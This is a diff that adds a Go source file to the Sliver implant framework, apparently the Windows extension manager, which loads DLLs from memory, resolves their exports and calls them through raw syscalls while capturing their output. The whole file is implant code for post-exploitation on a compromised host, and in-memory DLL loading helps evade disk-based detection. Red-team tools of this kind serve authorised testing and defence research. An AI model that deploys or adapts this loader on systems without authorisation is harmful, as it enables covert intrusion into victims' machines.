@@ -0,0 +1,159 @@
+//+build windows
+
+package extension
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bytes"
+	"fmt"
+	"runtime"
+	"sort"
+	"sync"
+	"syscall"
+	"unsafe"
+
+	"github.com/bishopfox/sliver/sliver/taskrunner"
+	"golang.org/x/sys/windows"
+)
+
+// Extensions are DLLs loaded from memory, each command they provide is an
+// export with the signature:
+//
+//	typedef int (*goCallback)(char *data, int dataLen);
+//	int __cdecl Export(char *args, uint32_t argsLen, goCallback callback);
+//
+// Output is passed to callback, which may be called any number of times
+// before the export returns. A non-zero return value is reported as an
+// error. args is only valid for the duration of the call.
+
+type extension struct {
+	name   string
+	module *taskrunner.MemoryModule
+}
+
+var (
+	extensions      = map[string]*extension{}
+	extensionsMutex = &sync.Mutex{}
+
+	// Calls are serialized, the callback appends to the output of the
+	// running call
+	callMutex    = &sync.Mutex{}
+	output       bytes.Buffer
+	outputActive bool
+	outputMutex  = &sync.Mutex{}
+
+	outputCallback     uintptr
+	outputCallbackOnce sync.Once
+)
+
+// Register - Load an extension from memory and call its init export, if any
+func Register(name string, data []byte, init string) error {
+	extensionsMutex.Lock()
+	defer extensionsMutex.Unlock()
+	if _, ok := extensions[name]; ok {
+		return fmt.Errorf("Extension %s is already loaded", name)
+	}
+	module, err := taskrunner.LoadDLL(data)
+	if err != nil {
+		return err
+	}
+	ext := &extension{name: name, module: module}
+	if init != "" {
+		_, err = ext.call(init, nil)
+		if err != nil {
+			return err
+		}
+	}
+	extensions[name] = ext
+	return nil
+}
+
+// Call - Call an export of a loaded extension and return its output
+func Call(name string, export string, args []byte) ([]byte, error) {
+	extensionsMutex.Lock()
+	ext, ok := extensions[name]
+	extensionsMutex.Unlock()
+	if !ok {
+		return nil, fmt.Errorf("Extension %s is not loaded", name)
+	}
+	return ext.call(export, args)
+}
+
+// List - Names of the loaded extensions
+func List() []string {
+	extensionsMutex.Lock()
+	defer extensionsMutex.Unlock()
+	names := []string{}
+	for name := range extensions {
+		names = append(names, name)
+	}
+	sort.Strings(names)
+	return names
+}
+
+func (e *extension) call(export string, args []byte) ([]byte, error) {
+	proc, err := e.module.ProcAddress(export)
+	if err != nil {
+		return nil, err
+	}
+	callMutex.Lock()
+	defer callMutex.Unlock()
+
+	outputMutex.Lock()
+	output.Reset()
+	outputActive = true
+	outputMutex.Unlock()
+
+	argsPtr := uintptr(0)
+	if 0 < len(args) {
+		argsPtr = uintptr(unsafe.Pointer(&args[0]))
+	}
+	ret, _, _ := syscall.Syscall(proc, 3, argsPtr, uintptr(len(args)), callback())
+	runtime.KeepAlive(args)
+
+	outputMutex.Lock()
+	outputActive = false
+	result := append([]byte{}, output.Bytes()...)
+	outputMutex.Unlock()
+	if int32(ret) != 0 {
+		return result, fmt.Errorf("%s!%s returned %d", e.name, export, int32(ret))
+	}
+	return result, nil
+}
+
+// callback - The goCallback passed to extensions, created once because
+// callbacks are never released
+func callback() uintptr {
+	outputCallbackOnce.Do(func() {
+		outputCallback = windows.NewCallbackCDecl(func(data uintptr, dataLen uintptr) uintptr {
+			length := int(int32(dataLen))
+			if data == 0 || length <= 0 {
+				return 0
+			}
+			outputMutex.Lock()
+			if outputActive {
+				output.Write((*[1 << 30]byte)(unsafe.Pointer(data))[:length:length])
+			}
+			outputMutex.Unlock()
+			return 0
+		})
+	})
+	return outputCallback
+}